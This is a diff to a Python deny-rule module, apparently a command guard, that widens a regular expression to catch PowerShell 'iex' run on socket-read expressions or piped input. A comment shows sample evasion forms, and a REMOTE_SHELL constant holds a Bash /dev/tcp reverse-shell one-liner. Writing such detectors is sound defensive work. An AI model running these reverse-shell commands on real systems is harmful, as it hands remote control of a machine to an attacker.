@@ -678,7 +678,11 @@ _ITEM_DELETE = re.compile(r"(?i)\((?:get-item|gi|get-childitem|gci|ls|dir)\s+(?:
 # TcpListener, UdpClient, Net.Sockets.Socket) and what it reads run as code; the Bash that
 # stands for it (an interactive shell on a /dev/tcp socket) is denied in every mode
 _PS_SOCKET = re.compile(r"(?i)\b(?:tcpclient|tcplistener|udpclient|net\.sockets\.socket)\b")
-_PS_RUNS_READ = re.compile(r"(?i)\b(?:iex|invoke-expression)\b(?:\s+-c(?:ommand)?)?[\s(]*\$|"
+# ((probe round 35, left35) iex of any expression, not a variable alone: iex
+# (New-Object IO.StreamReader($s)).ReadLine(), ... | iex; with a socket there, what is run
+# is what it read)
+_PS_RUNS_READ = re.compile(r"(?i)\b(?:iex|invoke-expression)\b(?:\s+-c(?:ommand)?)?[\s(]*(?:\$|\(|\[|new-object\b)|"
+                           r"\|\s*(?:iex|invoke-expression)\b|"
                            r"\[scriptblock\]\s*::\s*create\s*\(\s*\$|redirectstandardinput|"
                            r"\binvoke-command\b[^;|]*-scriptblock\s*\(?\s*\[scriptblock\]")
 REMOTE_SHELL = "sh -i >& /dev/tcp/0.0.0.0/0 0>&1"
